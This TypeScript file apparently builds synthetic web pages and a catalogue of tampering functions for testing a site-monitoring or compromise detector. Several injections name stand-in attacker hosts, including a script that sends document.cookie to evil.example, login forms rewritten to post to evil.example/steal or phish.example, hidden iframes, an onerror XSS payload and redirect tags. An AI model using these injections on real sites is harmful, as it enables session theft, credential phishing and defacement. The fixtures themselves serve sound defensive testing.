import { randomFrom } from './scene.ts'

let random = randomFrom(1)
/** Begins the random parts of the pages anew. */
export function reseed(seed: number): void {
  random = randomFrom(seed)
}
const R = () => random()
function pick<Value>(list: readonly Value[]): Value {
  const value = list[Math.floor(R() * list.length)]
  if (value === undefined) throw new Error('Nothing to pick from')
  return value
}
const rid = (n: number) =>
  Array.from({ length: n }, () => pick([...'abcdefghijklmnopqrstuvwxyz0123456789'])).join('')
const hx = (n: number) => Array.from({ length: n }, () => pick([...'0123456789abcdef'])).join('')

/** A page as it is fetched for the nth time. */
export type PlainPage = (n: number) => string
/** Makes a page bad; `undefined` where it has nothing that it could happen to. */
export type PlainBad = (html: string) => string | undefined

const lorem =
  'Lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod tempor incididunt ut labore et dolore magna aliqua'.split(
    ' ',
  )
const sent = (n: number) => Array.from({ length: n }, () => pick(lorem)).join(' ')
/** Small pages of many sorts, written without a thought to how they are judged. */
export const plainPages: Readonly<Record<string, PlainPage>> = {
  blog: (n) =>
    `<!DOCTYPE html><html><head><title>My Travel Blog</title><link rel="stylesheet" href="/style.css?v=${n > 7 ? 2 : 1}"><script src="/main.js?v=${n > 7 ? 2 : 1}"></script></head><body><header><h1>My Travel Blog</h1><nav><a href="/">Home</a><a href="/about">About</a></nav></header><main><article><h2>Trip to Rome</h2><p>Rome was wonderful and we ate a lot of pasta near the river.</p><p>Views: ${1000 + n * 7}</p><p>Today is ${new Date(1.79e12 + n * 864e5).toDateString()}</p></article><section id="comments"><h3>${n * 20} Comments</h3>${Array.from({ length: n * 20 }, (_, i) => `<div class="comment" id="c${i}"><strong>User${i}</strong><p>Comment number ${i}: great post!</p></div>`).join('')}</section><form action="/comment" method="POST"><input type="hidden" name="csrf_token" value="${hx(32)}"><textarea name="comment"></textarea><button>Post</button></form></main><footer>&copy; 2026 My Travel Blog</footer></body></html>`,
  shop: (n) =>
    `<!DOCTYPE html><html><head><title>Blue Mug - Mug Shop</title><meta name="csrf" content="${hx(40)}"></head><body><div id="header"><a href="/?sid=${hx(16)}">Mug Shop</a> <a href="/cart?sid=${hx(16)}">Cart (${n % 4})</a></div><div id="product"><h1>Blue Mug</h1><span class="price">$${(10 + R() * 5).toFixed(2)}</span><span class="stock">${n % 3 ? `${Math.floor(R() * 50)} in stock` : 'Out of stock'}</span><p>A lovely blue mug for your morning coffee.</p>${n % 3 ? `<form action="/cart/add" method="post"><input type="hidden" name="token" value="${hx(20)}"><input name="qty" value="1"><button>Add to cart</button></form>` : '<p>Notify me when available</p>'}</div><div class="related">${Array.from({ length: 4 }, () => `<div class="item"><a href="/p/${Math.floor(R() * 99)}">${pick(['Red', 'Green', 'Tall', 'Tiny'])} ${pick(['Mug', 'Cup', 'Bowl'])}</a> $${(R() * 30).toFixed(2)}</div>`).join('')}</div><script>var cart=${JSON.stringify({ items: n % 4, session: hx(12), ts: 1.79e12 + n })};</script><footer>Mug Shop Ltd.</footer></body></html>`,
  ads: (_n) =>
    `<html><head><title>Recipes</title></head><body><h1>Recipes</h1><p>The best soup recipe you will ever find on the web.</p><ul><li>1 onion</li><li>2 carrots</li><li>salt</li></ul><div class="ad"><script src="https://ads.adnetwork.example/serve.js?r=${Math.floor(R() * 1e9)}"></script></div><div class="ad banner"><a href="https://click.adnetwork.example/${hx(10)}"><img src="https://img${Math.floor(R() * 5)}.adnetwork.example/${hx(8)}.jpg" width="300"></a></div><div class="sponsor">${pick(['Buy shoes at ShoeWorld', 'Fly with AirFast', 'Drink CoolCola', 'Insure with SafeCo', 'Try NoteApp'])}</div><iframe src="https://${pick(['a', 'b', 'c'])}.ads.example/?x=${hx(6)}"></iframe></body></html>`,
  news: (n) =>
    `<html lang="en"><head><title>Village News</title><link rel="canonical" href="https://village.example/"></head><body><div class="top">${new Date(1.79e12 + n * 36e5).toISOString()}</div><div class="wrap"><div class="logo">Village News</div>${Array.from({ length: 8 }, (_, i) => `<div class="story"><h2>${`Story ${n + i}: ${sent(5)}`}</h2><p>${sent(25)}</p><a href="/s/${n + i}">Read more</a></div>`).join('')}</div><script src="https://www.google-analytics.com/analytics.js" async></script><script>ga('create','UA-1','auto');ga('send','pageview');</script><div id="footer">Contact: editor@village.example</div></body></html>`,
  login: (n) =>
    `<html><head><title>Sign in</title></head><body><h1>Sign in</h1><form id="login" action="/session" method="post"><input type="hidden" name="authenticity_token" value="${rid(44)}"><label>User <input name="user"></label><label>Password <input type="password" name="password"></label><button>Sign in</button></form><p>Forgot your password?</p><script nonce="${rid(16)}">document.getElementById('login').dataset.t='${n}';</script></body></html>`,
  app: (n) =>
    `<!doctype html><html><head><title>App</title><script defer src="/static/js/main.${n > 7 ? '9f8e7d6c' : '1a2b3c4d'}.js"></script><link href="/static/css/main.${n > 7 ? 'aa11bb22' : 'cc33dd44'}.css" rel="stylesheet"></head><body><noscript>You need to enable JavaScript to run this app.</noscript><div id="root"></div></body></html>`,
  short: (n) => `<html><body><h1>It works</h1><p>Hello from my server, request ${n}.</p></body></html>`,
  forum: (n) =>
    `<html><head><title>Forum thread</title></head><body><h1>How do I fix my bike?</h1><p>Online: ${Math.floor(R() * 90)} users</p>${Array.from({ length: 5 + n * 15 }, (_, i) => `<div class="post"><div class="author">user${i % 7}</div><div class="body">${['Try oiling the chain.', 'Same problem here.', 'Thanks, that helped!', 'Bump', '+1'][i % 5]}</div><a href="#">Reply</a> <a href="#">Quote</a> <a href="#">Report</a></div>`).join('')}</body></html>`,
}
/** What may happen to any of them. */
export const plainBad: Readonly<Record<string, PlainBad>> = {
  script: (h) => h.replace('</body>', '<script src="https://evil.example/x.js"></script></body>'),
  scripthead: (h) => h.replace(/<body/, '<script src="//malware.example/m.js"></script><body'),
  inline: (h) =>
    h.replace('</body>', '<script>new Image().src="https://evil.example/c?"+document.cookie</script></body>'),
  inline2: (h) => h.replace('</body>', '<script>document.location="http://evil.example"</script></body>'),
  alert: (h) => h.replace('</body>', '<script>alert("hacked")</script></body>'),
  form: (h) =>
    h.includes('action=') ? h.replace(/action="[^"]*"/, 'action="https://evil.example/steal"') : undefined,
  form2: (h) => (h.includes('action=') ? h.replace(/action="[^"]*"/, 'action="/collect.php"') : undefined),
  hash: (h) => h.replace(/<\/h1>/, `</h1>${'#'.repeat(1000)}`),
  hashall: (h) => h.replace(/>[^<]+</g, () => `>${'#'.repeat(300)}<`),
  hashlines: (h) => h.replace('</body>', `${'<p>####</p>'.repeat(500)}</body>`),
  hash200: (h) => h.replace('</body>', `${'#'.repeat(250)}</body>`),
  blank: () => '',
  blank2: () => '<html><head><title></title></head><body></body></html>',
  blank3: (h) => h.replace(/<body>[\s\S]*<\/body>/, '<body></body>'),
  defaced: () =>
    '<html><head><title>Hacked by X</title></head><body><h1>HACKED BY X</h1><p>Greetz to all</p></body></html>',
  defaced2: (h) => h.replace(/<h1>[^<]*/, '<h1>HACKED BY CyberTeam'),
  parked: () =>
    '<html><head><title>example.com</title></head><body><h1>This domain is for sale</h1><p>Buy this domain. Related links: Insurance, Loans</p></body></html>',
  soft404: (h) =>
    h
      .replace(/<title>[^<]*/, '<title>Page not found')
      .replace(
        /<body>[\s\S]*<\/body>/,
        '<body><h1>404</h1><p>Sorry, the page you requested could not be found.</p></body>',
      ),
  mixed: (h) => h.replace('</body>', '<img src="http://insecure.example/a.png"></body>'),
  mixed2: (h) => h.replace(/<body/, '<script src="http://cdn.example/jquery.js"></script><body'),
  iframe: (h) => h.replace('</body>', '<iframe src="https://evil.example" width=0 height=0></iframe></body>'),
  pwd: (h) => h.replace('</body>', '<form action="/x"><input type="password" name="p"></form></body>'),
}
const words =
  'river stone bread lamp garden boat letter window street winter morning coffee train music paper mountain forest market bridge light'.split(
    ' ',
  )
const S = (n: number) => {
  const w = Array.from({ length: n }, () => pick(words)).join(' ')
  return `${w.charAt(0).toUpperCase() + w.slice(1)}.`
}
const P = () => `<p>${S(9)} ${S(12)} ${S(7)}</p>`
const fixed = [P(), P(), P(), P(), P()]
const posts = Array.from({ length: 40 }, (_, i) => ({ t: S(4), x: S(20), i }))
/** Pages in the manner of known programs. */
export const programPages: Readonly<Record<string, PlainPage>> = {
  drupal: (n) =>
    `<!DOCTYPE html><html lang="en" dir="ltr"><head><meta charset="utf-8"/><title>Blog | Stone House</title><meta name="Generator" content="Drupal 10"/><link rel="stylesheet" href="/core/themes/olivero/css/base.css?s${n > 9 ? 'abc1' : 'xyz9'}"/><script src="/core/misc/drupalSettingsLoader.js?v=10.${n > 9 ? 2 : 1}"></script></head><body class="path-frontpage page-views"><div class="dialog-off-canvas-main-canvas"><header class="site-header"><a href="/" class="site-branding__name">Stone House</a></header><main role="main"><div class="views-element-container">${posts
      .slice(20 - n, 26 - n)
      .map(
        (p) =>
          `<article class="node node--type-article"><h2><a href="/node/${p.i}">${p.t}</a></h2><div class="field">${p.x}</div></article>`,
      )
      .join(
        '',
      )}</div><nav class="pager"><a href="?page=1">Next</a></nav></main><footer><form action="/search/node" method="get"><input name="keys"></form></footer></div><script type="application/json" data-drupal-selector="drupal-settings-json">{"path":{"currentPath":"node"},"csp":"${hx(10)}"}</script><script src="/core/assets/vendor/once/once.min.js?v=1.0.${n > 9 ? 2 : 1}"></script></body></html>`,
  joomla: (n) =>
    `<html><head><base href="https://blog.example/"/><title>Home</title><script src="/media/jui/js/jquery.min.js?${hx(32)}"></script></head><body class="site com_content view-featured ${pick(['a', 'b'])}"><div class="container"><div class="header"><h1>Stone House</h1></div><div class="row"><div id="content" class="span9">${fixed.join('')}<div class="visits">Visitors today ${100 + n * 13}, online ${Math.floor(R() * 30)}</div></div><div id="aside" class="span3"><div class="well"><h3>Latest</h3><ul>${posts
      .slice(20 - n, 25 - n)
      .map((p) => `<li><a href="/${p.i}">${p.t}</a></li>`)
      .join(
        '',
      )}</ul></div><form action="/index.php" method="post" id="login-form"><input name="username"><input name="password" type="password"><input type="hidden" name="${hx(32)}" value="1"></form></div></div></div></body></html>`,
  squarespace: (n) =>
    `<!doctype html><html><head><title>Ann Potter Ceramics</title><script crossorigin="anonymous" src="//assets.sqs.example/universal/scripts-compressed/extract-css-runtime-${hx(20)}-min.en-US.js" defer></script><script>Static = window.Static || {}; Static.SQUARESPACE_CONTEXT = {"timeOffset":${n},"authenticatedAccount":null,"tweakJSON":{"a":"${hx(5)}"},"crumb":"${hx(20)}"};</script></head><body id="collection-5f${n % 2 ? 'x' : 'x'}" class="tweak-a"><div id="siteWrapper"><header id="header"><a href="/">Ann Potter Ceramics</a><nav><a href="/shop">Shop</a><a href="/about">About</a></nav></header><main id="page"><section data-test="page-section"><h1>Bowls made by hand</h1>${fixed[0]}<div class="grid">${Array.from({ length: 6 }, (_, i) => `<a href="/shop/${i}"><div class="grid-title">Bowl no. ${i}</div><div class="grid-prices">€${(20 + i + (n % 4 === 0 ? -5 : 0)).toFixed(2)}</div>${(n + i) % 5 === 0 ? '<div class="sold-out">sold out</div>' : ''}</a>`).join('')}</div></section></main><footer>${fixed[1]}</footer></div><div class="yui3-popup" style="display:none"><a href="https://consent.sqs.example/x">${pick(['We use cookies', 'Cookies? Yes or no', 'This site uses cookies to work'])}</a></div></body></html>`,
  hn: (n) =>
    `<html op="news"><head><title>Links</title><link rel="stylesheet" type="text/css" href="news.css?${n > 9 ? 'b' : 'a'}"></head><body><center><table id="hnmain"><tr><td bgcolor="#ff6600"><b><a href="news">Links</a></b> <a href="newest">new</a> | <a href="login">login</a></td></tr><tr><td><table>${posts
      .slice(20 - n, 35 - n)
      .map(
        (p, i) =>
          `<tr class="athing" id="${p.i}"><td>${i + 1}.</td><td><a href="https://site${p.i}.example/x">${p.t}</a> (site${p.i}.example)</td></tr><tr><td colspan=2>${Math.floor(R() * 300)} points by user${p.i} ${1 + Math.floor(R() * 12)} hours ago | ${Math.floor(R() * 200)} comments</td></tr>`,
      )
      .join('')}</table></td></tr></table></center></body></html>`,
  wp_ads: (n) =>
    `<html lang="de"><head><title>Küchenblog – Rezepte</title><meta name="generator" content="WordPress 6.${n > 9 ? 5 : 4}"><script async src="https://pagead2.googlesyndication.example/pagead/js/adsbygoogle.js?client=ca-pub-1" crossorigin="anonymous"></script><script id="wp-polyfill-js" src="/wp-includes/js/dist/vendor/wp-polyfill.min.js?ver=${n > 9 ? '3.15.1' : '3.15.0'}"></script>${n > 9 ? '<script src="/wp-content/plugins/seo/js/new.js?ver=2"></script>' : ''}</head><body class="home blog ${n % 3 ? 'season-winter' : ''}"><div id="page"><div id="main">${posts
      .slice(20 - n, 25 - n)
      .map(
        (p) =>
          `<div class="post-${p.i} post hentry"><h2>${p.t}</h2><p>${p.x}</p><ins class="adsbygoogle" data-ad-slot="${Math.floor(R() * 1e9)}"></ins><script>(adsbygoogle = window.adsbygoogle || []).push({});</script></div>`,
      )
      .join(
        '',
      )}</div><div id="sidebar">${pick(['<h3>Schlagworte</h3>', '<h3>Archiv</h3>'])}<p>Heute ist ${pick(['Montag', 'Dienstag', 'Mittwoch'])}, ${1 + n}. ${pick(['Januar', 'März'])} 2026</p></div></div><script>var cc = {"nonce":"${hx(10)}","banner":"${pick(['a', 'bb', 'ccc'])}","t":${n}${n > 9 ? ',"new":{"x":[1,2],"y":"z"}' : ''}};</script></body></html>`,
}
/** What may happen to these. */
export const programBad: Readonly<Record<string, PlainBad>> = {
  s1: (h) =>
    h.replace(
      /<\/body>/,
      '<script type="text/javascript" src="https://js.donatelloflow.example/stat.js"></script></body>',
    ),
  s2: (h) =>
    h.replace(
      /<head>/,
      "<head><script>var u=String.fromCharCode(104,116);(function(){var e=document.createElement('script');e.src=u;document.head.appendChild(e)})()</script>",
    ),
  s3: (h) =>
    h.replace(
      /<\/body>/,
      '<script>eval(function(p,a,c,k,e,d){return p}("0",1,1,"".split("|")))</script></body>',
    ),
  s4: (h) => h.replace(/<\/h[12]>/, (m) => `${m}<img src=x onerror=alert(1)>`),
  frm: (h) =>
    /action="/.test(h) ? h.replace(/action="[^"]*"/, 'action="http://phish.example/login"') : undefined,
  ifr: (h) =>
    h.replace(/<\/body>/, '<iframe src="https://bad.example/" style="display:none"></iframe></body>'),
  hid: (h) =>
    h.replace(
      /<\/body>/,
      '<div style="overflow:hidden;height:1px"><a href="https://viagra.example">viagra</a></div></body>',
    ),
  hsh: (h) => h.replace(/<\/body>/, `<div>${'# '.repeat(5000)}</div></body>`),
  hsh2: (h) => h.replace(/<p>[^<]*<\/p>/, `<p>${'#'.repeat(3000)}</p>`),
  row: (h) => {
    const m = /<(article|tr|li|div class="grid-title"|h2)[\s\S]*?<\/\1>/.exec(
      h.replace('div class="grid-title"', 'h9'),
    )?.[0]
    return m ? h.replace(/<\/body>/, `${m.repeat(800)}</body>`) : undefined
  },
  bl: (h) => h.replace(/<body[\s\S]*/, '<body></body></html>'),
  mx: (h) => h.replace(/<\/body>/, '<script src="http://cdn.plain.example/a.js"></script></body>'),
  mx2: (h) => h.replace(/<\/body>/, '<img src="http://pics.example/a.jpg"></body>'),
  pk: () =>
    '<html><head><title>blog.example</title><script src="https://d1.cloudfront.example/px.js"></script></head><body><div>blog.example</div><div>The domain blog.example may be for sale. Click here to inquire.</div></body></html>',
  pk2: () =>
    '<!DOCTYPE html><html><body><script>window.onload=function(){window.location.href="/lander"}</script></body></html>',
  df: () => '<html><title>Owned</title><body bgcolor="black"><pre>0wned by r00t</pre></body></html>',
  df2: (h) =>
    h
      .replace(/<title>[^<]*/, '<title>[ HACKED ]')
      .replace(/<h([12])>[^<]*/, '<h$1>H A C K E D   b y   G h o s t'),
  nf: (h) =>
    /<article|post-|<p>/.test(h) === false
      ? undefined
      : h
          .replace(/<title>[^<]*/, '<title>Nothing here')
          .replace(
            /<article[\s\S]*<\/article>|<div class="post-[\s\S]*<\/div><div id="sidebar">|<p>[\s\S]*<\/p>/,
            '<p>We could not find what you were looking for.</p>',
          ),
  db: () => '<h1>Error establishing a database connection</h1>',
  wp: () =>
    '<html><head><title>Maintenance</title></head><body>Briefly unavailable for scheduled maintenance. Check back in a minute.</body></html>',
  base: (h) => h.replace(/<head>/, '<head><base href="https://evil.example/">'),
  refresh: (h) =>
    h.replace(/<head>/, '<head><meta http-equiv="Refresh" content="3; URL=https://evil.example/">'),
}
